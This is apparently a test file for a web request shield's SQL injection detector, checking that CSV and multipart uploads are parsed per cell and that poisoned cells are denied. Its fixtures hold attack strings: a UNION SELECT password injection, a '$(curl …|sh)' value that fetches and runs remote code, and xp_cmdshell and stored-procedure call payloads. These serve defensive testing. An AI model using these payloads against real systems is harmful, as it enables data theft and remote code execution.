import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Decision } from "@parapet/core";
import fc from "fast-check";
import { sqliDetector } from "../src/detectors/sqli/index.js";
import { bodyValues, DEFAULT_LIMITS, describeRules, scoreOf, shieldDecision } from "./helpers.js";

const valuesOf = bodyValues;

// A contact list as a CRM export writes it. Read as one value, the quote of O'Brien opened a string that the note's
// "; call" three cells later turned into a stacked query: every import of such a list was denied.
const CONTACTS = `id,name,email,city,notes,amount
1,"O'Brien, Pat",pat@example.com,"New York, NY","Prefers email; call after 5pm",1200.50
2,Zoë Müller,zoe@example.de,Zürich,"VIP -- handle with care",-30
3,"Smith & Sons",orders@smith.co.uk,London,"Order #123 (rush)",99
4,Jean-Luc,jl@example.fr,Paris,"Says ""hello""
on two lines",0
`;

function upload(body: string, contentType: string): Promise<Decision> {
  return shieldDecision(new Request("http://app.test/import", { method: "POST", headers: { "content-type": contentType }, body }));
}

describe("CSV bodies are read cell by cell", () => {
  it("names each cell by its row and its column's header", () => {
    const values = valuesOf(CONTACTS, "text/csv");
    assert.equal(values["body.1.name"], "O'Brien, Pat");
    assert.equal(values["body.1.notes"], "Prefers email; call after 5pm");
    assert.equal(values["body.4.notes"], 'Says "hello"\non two lines');
    assert.equal(values["body.2.amount"], "-30");
  });

  it("numbers the columns when the first row is data, and reads semicolon-separated exports", () => {
    assert.deepEqual(valuesOf("1,alice,42\n2,bob,7", "text/csv"), {
      "body.0.0": "1",
      "body.0.1": "alice",
      "body.0.2": "42",
      "body.1.0": "2",
      "body.1.1": "bob",
      "body.1.2": "7",
    });
    assert.equal(valuesOf("name;city\nMüller;Köln, Nord\n", "application/csv")["body.1.city"], "Köln, Nord");
    assert.equal(valuesOf("name\tcity\nMüller\tKöln, Nord\n", "text/tab-separated-values")["body.1.city"], "Köln, Nord");
  });

  it("lets a contact list in, and denies the one cell that is an injection, by its place", async () => {
    assert.equal((await upload(CONTACTS, "text/csv; charset=utf-8")).conclusion, "ALLOW");
    const poisoned = `${CONTACTS}5,Eve,eve@example.com,x,"1' UNION SELECT password FROM users--",0\n`;
    const decision = await upload(poisoned, "text/csv");
    assert.equal(decision.conclusion, "DENY");
    assert.match(decision.reason.message, /sqli in body\.5\.notes/);
  });

  it("reads a CSV file part of a multipart upload the same way", async () => {
    const boundary = "----parapet";
    const part = (file: string) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="contacts"; filename="contacts.csv"\r\nContent-Type: application/vnd.ms-excel\r\n\r\n${file}\r\n--${boundary}--\r\n`;
    const type = `multipart/form-data; boundary=${boundary}`;
    assert.equal((await upload(part(CONTACTS), type)).conclusion, "ALLOW");
    const decision = await upload(part(`${CONTACTS}5,Eve,e@x.io,x,"$(curl http://203.0.113.9/x|sh)",0\n`), type);
    assert.equal(decision.conclusion, "DENY");
    assert.match(decision.reason.message, /in body\.contacts\.5\.notes/);
  });

  it("reads any text without throwing, within the value limit", () => {
    const csvish = fc.stringMatching(/^[a-z0-9 ,;\t"'\r\n=-]{0,400}$/);
    fc.assert(
      fc.property(csvish, (text) => {
        assert.ok(Object.keys(bodyValues(text, "text/csv")).length <= DEFAULT_LIMITS.maxValues);
      }),
      { numRuns: 500 },
    );
  });

  it("keeps an unterminated quote's rest as one field", () => {
    const values = valuesOf('a,b\n1,"never closed, ; drop table users --', "text/csv");
    assert.equal(values["body.1.b"], "never closed, ; drop table users --");
  });
});

describeRules("sqli: CALL takes its arguments in parentheses", (value) => scoreOf(sqliDetector, value, "body", "notes"), {
  '"; call after 5pm" is a note': {
    attacks: ["1; call proc(1)--", "1;call sys.x(1)", "x'; CALL mysql.lambda_async('x')--", "1; exec xp_cmdshell 'dir'", "1;EXEC sp_who 5"],
    benign: ["Prefers email; call after 5pm", "ok; call me later", "done; call 911 if needed"],
  },
});
